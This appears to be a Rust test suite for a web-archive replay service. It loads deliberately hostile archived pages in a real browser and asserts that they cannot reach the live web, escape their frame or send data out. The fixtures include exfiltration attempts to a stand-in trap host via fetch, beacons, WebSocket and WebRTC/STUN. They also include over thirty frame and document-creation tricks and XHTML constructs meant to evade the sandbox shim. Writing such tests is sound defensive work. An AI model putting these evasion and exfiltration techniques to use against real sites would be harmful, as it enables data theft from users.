//! Archived pages in a real browser: a hostile page with a trap, and one that must look right.

use std::net::{TcpListener, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::*;

/// Returns a page that tries every attack and writes what succeeded into its title.
fn hostile(trap: &str, api: &str) -> String {
    format!(
        r#"{HTML}<html><head><title>trying</title>
<link rel=preconnect href="{trap}"><link rel=dns-prefetch href="{trap}"><link rel=stylesheet href="{trap}/x.css">
<style>@import "{trap}/y.css"; body {{ background: url({trap}/bg.png) }}</style></head><body>
<img src="{trap}/a.png" srcset="{trap}/b.png 2x"><iframe src="{trap}/frame"></iframe><iframe srcdoc="<img src='{trap}/doc.png'>"></iframe>
<iframe src="data:text/html,<img src='{trap}/data.png'>"></iframe><object data="{trap}/o"></object><embed src="{trap}/e">
<video poster="{trap}/p" src="{trap}/v"></video><svg><image href="{trap}/s"/></svg>
<iframe name=sink></iframe><form id=f target=sink action="{trap}/form"><input name=q></form><form id=g method=post target=sink action="{trap}/form"></form><a id=l target=_blank href="{trap}/link">l</a>
<script>
const could = [];
const tries = {{
  storage() {{ Object.getPrototypeOf(window); const real = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage"); if (real) real.get.call(window).setItem("a", "b"); else throw 1; }},
  cookie() {{ const frame = document.createElement("iframe"); document.body.append(frame); const text = frame.contentDocument.cookie = "a=b"; if (!frame.contentDocument.cookie.includes("a=b")) throw text; }},
  opener() {{ if (!window.opener) throw 1; window.opener.location.href; }},
  parent() {{ parent.document.title; }},
  top() {{ top.location.href; }},
  worker() {{ if (!navigator.serviceWorker) throw 1; navigator.serviceWorker.register("/replay/2014js_/http://hostile.example/sw.js"); }},
  database() {{ indexedDB.open("x"); }},
  socket() {{ new WebSocket("{trap}".replace("http", "ws")); }},
}};
for (const [name, attempt] of Object.entries(tries)) {{ try {{ attempt(); could.push(name); }} catch {{}} }}
const asks = [
  ["api", "{api}/api/v1/search?q=x"], ["cdx", "{api}/cdx?url=hostile.example/*"], ["live", "{trap}/fetch"],
  ["other", new URL("/healthz-not-there", location.href).href.replace("/healthz-not-there", "/api/v1/search?q=x")],
];
for (const tag of ["img", "script", "link", "iframe"]) {{
  const element = document.createElementNS("http://www.w3.org/1999/xhtml", tag);
  element.setAttributeNS(null, tag === "link" ? "href" : "src", "{trap}/" + tag);
  if (tag === "link") element.setAttributeNS(null, "rel", "stylesheet");
  document.body.append(element);
}}
document.write("<img src='{trap}/written.png'>");
document.body.insertAdjacentHTML("beforeend", "<img src='{trap}/inserted.png'>");
navigator.sendBeacon("{trap}/beacon", "x");
new Image().src = "{trap}/image.png";
const late = document.createElement("script");
late.textContent = "fetch('{trap}/late').catch(() => 0)";
document.body.append(late);
try {{ document.getElementById("f").submit(); }} catch {{}}
try {{ document.getElementById("g").submit(); }} catch {{}}
try {{ top.location = "{trap}/top"; }} catch {{}}
try {{ window.open("about:blank"); }} catch {{}}
Promise.all(asks.map(([name, url]) => fetch(url).then((answer) => answer.ok && could.push(name)).catch(() => 0)))
  .then(() => {{ document.title = "could:" + could.join(" "); }});
</script></body></html>"#
    )
}

/// Counts connections that reach the outside, and those that send a request.
#[derive(Default)]
struct Trapped {
    connections: AtomicUsize,
    requests: AtomicUsize,
}

fn trap() -> (String, Arc<Trapped>) {
    let trap = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = format!(
        "http://trap.example:{}",
        trap.local_addr().expect("an address").port()
    );
    let trapped = Arc::new(Trapped::default());
    let counter = Arc::clone(&trapped);
    std::thread::spawn(move || {
        for mut stream in trap.incoming().flatten() {
            counter.connections.fetch_add(1, Ordering::SeqCst);
            let counter = Arc::clone(&counter);
            std::thread::spawn(move || {
                use std::io::Read as _;
                if stream.read(&mut [0]).is_ok_and(|bytes| bytes > 0) {
                    counter.requests.fetch_add(1, Ordering::SeqCst);
                }
            });
        }
    });
    (address, trapped)
}

#[test]
fn an_archived_page_reaches_neither_the_live_web_nor_the_archive() {
    let (address, trapped) = trap();
    let Some(browser) = Browser::start(&["--host-resolver-rules=MAP trap.example 127.0.0.1".to_owned()])
    else {
        return;
    };
    // The address of the main port is not known before the page is captured, so the page tries all
    // of this machine.
    let page = hostile(&address, "http://127.0.0.1:1");
    let scene = Scene::of(&[
        ("http://hostile.example/", 0, &page),
        (
            "http://hostile.example/sw.js",
            0,
            "Content-Type: text/javascript\r\n\r\n",
        ),
    ]);
    let alone = "/replay/2014/http://hostile.example/";
    for (place, path, frame) in [
        (
            scene.server.address,
            "/page?url=http://hostile.example/",
            ".small-frame iframe",
        ),
        (scene.server.address, alone, "iframe.replay"),
        (scene.replay(), alone, "iframe.replay"),
    ] {
        browser.go(&format!("http://{place}{path}"));
        enter_loaded(&browser, frame);
        wait_for(&browser, "the trial", || {
            browser
                .script("return document.title")
                .as_str()
                .is_some_and(|title| title.starts_with("could:"))
        });
        assert_eq!(browser.script("return document.title"), "could:");
        assert_eq!(browser.script("return self.origin"), "null");
        std::thread::sleep(Duration::from_millis(500));
        browser.enter_frame(None);
        assert!(
            browser.address().starts_with(&format!("http://{place}/")),
            "{}",
            browser.address()
        );
        let connections = trapped.connections.load(Ordering::SeqCst);
        assert_eq!(connections, 0, "connections to the live web");
    }
    // A click or a script may try to navigate the frame elsewhere; its policy prevents it.
    browser.enter_frame(Some("iframe.replay"));
    browser.script("document.getElementById('l').click(); return 1");
    wait_for(&browser, "what was not captured", || {
        browser.script("return document.title") == "Not captured"
    });
    browser.enter_frame(None);
    browser.go(&format!(
        "http://{}/replay/2014/http://hostile.example/",
        scene.replay()
    ));
    browser.enter_frame(Some("iframe.replay"));
    browser.script(&format!("location.href = '{address}/away'; return 1"));
    // The browser may connect before it checks the policy. It then sends no request, and shows that
    // it was blocked.
    wait_for(&browser, "the refusal", || {
        browser
            .script("return location.href")
            .as_str()
            .is_some_and(|shown| shown.starts_with("chrome-error:"))
    });
    std::thread::sleep(Duration::from_millis(500));
    let requests = trapped.requests.load(Ordering::SeqCst);
    assert_eq!(requests, 0, "the frame left the archive");
}

#[test]
fn a_page_looks_like_itself_and_the_bar_follows_its_reader() {
    let Some(browser) = Browser::start(&[]) else {
        return;
    };
    let page = format!(
        "{HTML}<title>one</title><link rel=stylesheet href=s.css><p id=p>text<a id=n href=two>two</a><img id=i>\
         <script src=x.js></script><script>document.getElementById('i').src = '/i.svg'; localStorage.setItem('a', 'b');</script>"
    );
    let scene = Scene::of(&[
        ("http://a.example/", 0, &page),
        (
            "http://a.example/",
            86_400,
            &format!("{HTML}<title>one</title>later"),
        ),
        (
            "http://a.example/two",
            1,
            &format!("{HTML}<title>two</title>second"),
        ),
        (
            "http://a.example/s.css",
            1,
            "Content-Type: text/css\r\n\r\np{color:rgb(1,2,3);background:url(/i.svg)}",
        ),
        (
            "http://a.example/x.js",
            1,
            "Content-Type: text/javascript\r\n\r\nfetch('/data.json').then((a) => a.json()).then((d) => { document.title = d.said + document.URL; })",
        ),
        (
            "http://a.example/data.json",
            1,
            "Content-Type: application/json\r\n\r\n{\"said\": \"fetched \"}",
        ),
        (
            "http://a.example/i.svg",
            1,
            "Content-Type: image/svg+xml\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' width='7' height='9'/>",
        ),
    ]);
    let first = scene.server.address;
    browser.go(&format!("http://{first}/replay/2014/http://a.example/"));
    browser.enter_frame(Some("iframe.replay"));
    wait_for(&browser, "what the script fetches", || {
        browser.script("return document.title") == "fetched http://a.example/"
    });
    assert_eq!(
        browser.script("return getComputedStyle(document.getElementById('p')).color"),
        "rgb(1, 2, 3)"
    );
    wait_for(&browser, "the picture", || {
        browser.script("return document.getElementById('i').naturalHeight") == 9
    });
    assert_eq!(browser.script("return localStorage.a"), "b");
    browser.script("document.getElementById('n').click()");
    browser.enter_frame(None);
    wait_for(&browser, "the bar of the second page", || {
        browser.address() == format!("http://{first}/replay/20140126200625/http://a.example/two")
    });
    // The bar shows a missing page with nearby captures.
    browser.go(&format!("http://{first}/replay/2014/http://a.example/three"));
    assert!(browser.text("main").contains("This URL was not captured"));
    // No content of the page is wider than a phone.
    browser.size(390, 800);
    browser.go(&format!("http://{first}/replay/2014/http://a.example/"));
    assert_eq!(
        browser.script("return document.documentElement.scrollWidth <= innerWidth"),
        true
    );
}

/// Ways for a script to create a document that may lack the shim, each with its markup. [`realm`]
/// fills in the placeholders between `@`.
pub(super) const REALMS: [(&str, &str); 31] = [
    ("the page itself", "<script>@RUN@</script>"),
    (
        "a frame with an address",
        "<script>f = document.createElement('iframe'); f.src = '/x'; document.body.append(f); window[0].eval(@CODE@)</script>",
    ),
    (
        "srcdoc",
        "<iframe srcdoc='<script>@ATTRIBUTE@</script>'></iframe>",
    ),
    (
        "srcdoc with a head",
        "<iframe srcdoc='<!doctype html><html><head></head><body><script>@ATTRIBUTE@</script>'></iframe>",
    ),
    (
        "srcdoc in srcdoc",
        "<iframe srcdoc='<iframe srcdoc=&quot;&amp;lt;script>@ATTRIBUTE2@&amp;lt;/script>&quot;></iframe>'></iframe>",
    ),
    (
        "deep in srcdoc",
        "<script>let d = '<script>' + @CODE@ + '<\\/script>'; for (let n = 0; n < 5; n++) d = `<iframe srcdoc=\"${d.replace(/&/g, '&amp;').replace(/\"/g, '&quot;')}\"></iframe>`; document.write(d)</script>",
    ),
    (
        "a property",
        "<script>f = document.createElement('iframe'); f.srcdoc = @HTML@; document.body.append(f)</script>",
    ),
    (
        "an attribute",
        "<script>f = document.createElement('iframe'); f.setAttribute('SRCDOC', @HTML@); document.body.append(f)</script>",
    ),
    (
        "a node",
        "<script>a = document.createAttribute('srcdoc'); a.value = @HTML@; f = document.createElement('iframe'); f.setAttributeNode(a); document.body.append(f)</script>",
    ),
    (
        "a node of a name space",
        "<script>f = document.createElement('iframe'); f.setAttributeNS(null, 'srcdoc', @HTML@); document.body.append(f)</script>",
    ),
    (
        "an attribute that changes",
        "<script>f = document.createElement('iframe'); document.body.append(f); a = document.createAttribute('srcdoc'); a.value = @HTML@; f.setAttributeNode(a)</script>",
    ),
    (
        "inner markup",
        "<p id=i1></p><script>i1.innerHTML = @FRAME@</script>",
    ),
    (
        "outer markup",
        "<p id=i2></p><script>i2.outerHTML = @FRAME@</script>",
    ),
    (
        "adjacent markup",
        "<script>document.body.insertAdjacentHTML('beforeend', @FRAME@)</script>",
    ),
    ("what is written", "<script>document.write(@FRAME@)</script>"),
    (
        "a parser",
        "<script>document.body.append(document.adoptNode(new DOMParser().parseFromString(@FRAME@, 'text/html').querySelector('iframe')))</script>",
    ),
    (
        "a fragment",
        "<script>document.body.append(document.createRange().createContextualFragment(@FRAME@))</script>",
    ),
    (
        "a template",
        "<template id=t1><iframe srcdoc='<script>@ATTRIBUTE@</script>'></iframe></template><script>document.body.append(t1.content.cloneNode(true))</script>",
    ),
    (
        "a shadow tree",
        "<p id=s1></p><script>s1.attachShadow({ mode: 'closed' }).append(new DOMParser().parseFromString(@FRAME@, 'text/html').querySelector('iframe'))</script>",
    ),
    (
        "an unsafe setter",
        "<p id=u1></p><script>u1.setHTMLUnsafe(@FRAME@)</script>",
    ),
    (
        "javascript",
        "<iframe src='javascript:void(()=>{@ATTRIBUTE@})()'></iframe>",
    ),
    (
        "javascript that gives a document",
        "<iframe src='javascript:\"&lt;script>\" + unescape(\"@ESCAPED@\") + \"&lt;/script>\"'></iframe>",
    ),
    (
        "javascript with a tab",
        "<iframe src=' java&#9;script:void(()=>{@ATTRIBUTE@})()'></iframe>",
    ),
    (
        "javascript by a property",
        "<script>f = document.createElement('iframe'); f.src = 'javascript:' + @CODE@; document.body.append(f)</script>",
    ),
    (
        "javascript by a node",
        "<script>a = document.createAttribute('src'); a.value = 'javascript:' + @CODE@; f = document.createElement('iframe'); f.setAttributeNode(a); document.body.append(f)</script>",
    ),
    (
        "an empty frame",
        "<script>f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval(@CODE@)</script>",
    ),
    (
        "blob",
        "<script>f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([@HTML@], { type: 'text/html' })); document.body.append(f)</script>",
    ),
    (
        "data",
        "<script>f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(@HTML@); document.body.append(f)</script>",
    ),
    (
        "objects",
        "<script>for (const [tag, name] of [['object', 'data'], ['embed', 'src']]) for (const url of ['javascript:' + @CODE@, 'data:text/html,' + encodeURIComponent(@HTML@)]) { f = document.createElement(tag); f[name] = url; document.body.append(f) }</script>",
    ),
    (
        "a window",
        "<iframe name=w1></iframe><script>for (const name of ['w1', '_blank', 'w2']) { const w = window.open('javascript:' + @CODE@, name); if (w) w.eval(@CODE@) }</script>",
    ),
    (
        "a capture as it is",
        "<script>for (const m of ['id_', 'js_', 'im_', 'cs_']) { f = document.createElement('iframe'); f.src = '/replay/2014' + m + '/http://hostile.example/frame?@PORT@'; document.body.append(f) }</script>",
    ),
];

/// Beginnings of XHTML that would keep the shim from running.
pub(super) const XHTML_REALMS: [(&str, &str); 8] = [
    (
        "a type by default",
        "<!DOCTYPE html [<!ATTLIST script type CDATA 'text/plain'>]><html xmlns='@XHTML@'>",
    ),
    (
        "a namespace by default",
        "<!DOCTYPE html [<!ATTLIST script xmlns CDATA 'urn:x'>]><html xmlns='@XHTML@'>",
    ),
    (
        "other defaults",
        "<!DOCTYPE html [<!ATTLIST script async CDATA '' nomodule CDATA ''>]><html xmlns='@XHTML@'>",
    ),
    (
        "a head of a drawing",
        "<html xmlns='@XHTML@'><head xmlns='http://www.w3.org/2000/svg'/>",
    ),
    (
        "a transformation",
        "<?xml-stylesheet type='text/xsl' href='data:text/xsl,<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\
         <xsl:template match=\"/\"><html><head/><script><xsl:value-of select=\"//*[local-name()=&apos;script&apos;][last()]\"/></script></html></xsl:template></xsl:stylesheet>'?>\
         <html xmlns='@XHTML@'>",
    ),
    ("a prefix", "<x:html xmlns:x='@XHTML@' xmlns='@XHTML@'>"),
    ("a comment", "<!--> <head> --><html xmlns='@XHTML@'>"),
    (
        "an entity",
        "<!DOCTYPE html [<!ENTITY x 'x'>]><html xmlns='@XHTML@'>&x;",
    ),
];

/// Returns a page in XHTML with one of these beginnings.
pub(super) fn xhtml_realm(beginning: &str, port: u16) -> String {
    let end = if beginning.contains("<x:html") {
        "x:html"
    } else {
        "html"
    };
    let beginning = beginning.replace("@XHTML@", "http://www.w3.org/1999/xhtml");
    format!(
        "Content-Type: application/xhtml+xml\r\n\r\n{beginning}<head><title>trying</title></head><body>\
         <script type='text/javascript'>{}</script><script type='text/javascript'>document.title = 'tried'</script></body></{end}>",
        code(port)
    )
}

/// Returns code that tries to send data out: over UDP by the two ways of WebRTC, over TCP, and by a
/// connection without a request.
pub(super) fn code(port: u16) -> String {
    let sdp = [
        "v=0",
        "o=- 1 2 IN IP4 127.0.0.1",
        "s=-",
        "t=0 0",
        "a=group:BUNDLE 0",
        "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
        "c=IN IP4 127.0.0.1",
        "a=ice-ufrag:5345435245542074657874",
        "a=ice-pwd:0123456789012345678901234567",
        &format!("a=fingerprint:sha-256 {}", ["AA"; 32].join(":")),
        "a=setup:active",
        "a=mid:0",
        "a=sctp-port:5000",
        &format!("a=candidate:1 1 udp 2130706431 127.0.0.1 {port} typ host"),
        "",
    ]
    .join("#");
    // The code has no quotation marks and no characters that an attribute must escape, because it
    // is put into attributes, strings and scripts.
    format!(
        "for(let n=0;n!=2;n++)try{{const c=new RTCPeerConnection({{iceServers:n?[]:[{{urls:[`stun:127.0.0.1:{port}`,`turn:127.0.0.1:{port}?transport=tcp`],username:`a`,credential:`b`}}]}});\
         c.createDataChannel(`x`);c.createOffer().then(o=>c.setLocalDescription(o)).then(()=>n?c.setRemoteDescription({{type:`answer`,sdp:`{sdp}`.replace(/#/g,String.fromCharCode(13,10))}}):0);\
         (self.kept=self.kept||[]).push(c)}}catch(e){{}};\
         try{{const l=document.createElement(`link`);l.rel=`preconnect`;l.href=`http://127.0.0.1:{port}`;document.head.append(l)}}catch(e){{}};\
         try{{new WebSocket(`ws://127.0.0.1:{port}/`)}}catch(e){{}};\
         fetch(`http://127.0.0.1:{port}/`,{{mode:`no-cors`}}).catch(()=>0)"
    )
}

/// Returns a page that tries one of these ways.
pub(super) fn realm(markup: &str, port: u16) -> String {
    let code = code(port);
    let html = format!("<script>{code}</script>");
    let string = |text: &str| {
        serde_json::to_string(text)
            .expect("a string")
            .replace("</", "<\\/")
    };
    let escaped: String = code.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let quoted = |text: &str| {
        text.replace('&', "&amp;")
            .replace('\'', "&#39;")
            .replace('"', "&quot;")
    };
    let frame = format!("<iframe srcdoc=\"{}\"></iframe>", quoted(&html));
    let markup = markup
        .replace("@ATTRIBUTE2@", &quoted(&quoted(&quoted(&code))))
        .replace("@ATTRIBUTE@", &quoted(&code))
        .replace("@ESCAPED@", &escaped)
        .replace("@CODE@", &string(&code))
        .replace("@HTML@", &string(&html))
        .replace("@FRAME@", &string(&frame))
        .replace("@PORT@", &port.to_string())
        .replace("@RUN@", &code);
    format!(
        "{HTML}<!doctype html><html><head><title>trying</title></head><body>{markup}<script>document.title = 'tried'</script>"
    )
}

/// A port that counts what arrives over UDP and TCP.
pub(super) struct Port {
    pub(super) number: u16,
    pub(super) came: Arc<AtomicUsize>,
}

impl Port {
    pub(super) fn open() -> Port {
        let (tcp, udp) = loop {
            let tcp = TcpListener::bind("127.0.0.1:0").expect("a free port");
            if let Ok(udp) = UdpSocket::bind(tcp.local_addr().expect("an address")) {
                break (tcp, udp);
            }
        };
        let port = Port {
            number: tcp.local_addr().expect("an address").port(),
            came: Arc::default(),
        };
        let (by_tcp, by_udp) = (Arc::clone(&port.came), Arc::clone(&port.came));
        std::thread::spawn(move || {
            for stream in tcp.incoming() {
                drop(stream);
                by_tcp.fetch_add(1, Ordering::SeqCst);
            }
        });
        std::thread::spawn(move || {
            while udp.recv(&mut [0; 2048]).is_ok() {
                by_udp.fetch_add(1, Ordering::SeqCst);
            }
        });
        port
    }
}

/// Number of windows with pages that try ways out.
const WINDOWS: usize = 8;

/// Time for a page to send something out: long enough for a nested frame to load the shim and run.
/// STUN repeats its requests.
const TRIAL: Duration = Duration::from_millis(600);

/// Opens a page for each way, and returns the ways that sent something out.
fn ways_out(flags: &[&str], wanted: impl Fn(&str) -> bool) -> Option<Vec<&'static str>> {
    let flags: Vec<String> = flags.iter().map(|flag| (*flag).to_owned()).collect();
    let browser = Browser::start(&flags)?;
    // Checks the trap itself: a page that is not archived does send something out.
    let control = Port::open();
    browser.go(&format!(
        "data:text/html,<head></head><script>{}</script>",
        code(control.number).replace('#', "%23")
    ));
    wait_for(&browser, "the trap", || control.came.load(Ordering::SeqCst) > 0);
    let pages_of_ways = REALMS
        .into_iter()
        .map(|(name, markup)| (name, markup, realm as fn(&str, u16) -> String));
    let xhtml = XHTML_REALMS
        .into_iter()
        .map(|(name, markup)| (name, markup, xhtml_realm as fn(&str, u16) -> String));
    let ways: Vec<_> = pages_of_ways
        .chain(xhtml)
        .filter(|(name, ..)| wanted(name))
        .map(|(name, markup, page)| (name, markup, page, Port::open()))
        .collect();
    let mut pages = Vec::new();
    for (number, (_, markup, page, port)) in ways.iter().enumerate() {
        pages.push((
            format!("http://hostile.example/{number}"),
            page(markup, port.number),
        ));
        let frame = format!(
            "{HTML}<!doctype html><head></head><script>{}</script>",
            code(port.number)
        );
        pages.push((format!("http://hostile.example/frame?{}", port.number), frame));
    }
    let captures: Vec<(&str, i64, &str)> = pages
        .iter()
        .map(|(url, page)| (url.as_str(), 0, page.as_str()))
        .collect();
    let scene = Scene::of(&captures);
    // While one page is opened, others have their time.
    let mut windows = vec![(browser.window(), Instant::now())];
    windows.resize_with(WINDOWS, || (browser.open_window(), Instant::now()));
    for number in 0..ways.len() {
        let (window, tried) = &mut windows[number % WINDOWS];
        if number >= WINDOWS {
            std::thread::sleep(TRIAL.saturating_sub(tried.elapsed()));
        }
        browser.enter_window(window);
        browser.go(&format!(
            "http://{}/replay/2014/http://hostile.example/{number}",
            scene.replay()
        ));
        browser.enter_frame(Some("iframe.replay"));
        wait_for(&browser, "the trial", || {
            browser.script("return document.title") == "tried"
        });
        browser.enter_frame(None);
        *tried = Instant::now();
    }
    std::thread::sleep(TRIAL);
    let came = |port: &Port| port.came.load(Ordering::SeqCst) > 0;
    Some(
        ways.into_iter()
            .filter(|(.., port)| came(port))
            .map(|(name, ..)| name)
            .collect(),
    )
}

/// A script of an archived page reads another archived page and tries to send it out. It opens many
/// kinds of documents to find one where WebRTC works.
#[test]
fn no_document_that_a_page_makes_has_a_way_out() {
    let Some(ways) = ways_out(&[], |_| true) else {
        return;
    };
    assert_eq!(ways, [""; 0]);
}

/// The same in a browser that does not support the header that forbids it, so that only the shim
/// protects.
#[test]
fn without_the_browsers_help_the_shim_is_in_every_document() {
    // Connections without a request can be blocked only by the browser.
    let flags = ["--disable-features=ConnectionAllowlists"];
    let Some(ways) = ways_out(&flags, |_| true) else {
        return;
    };
    assert_eq!(ways, [""; 0]);
}
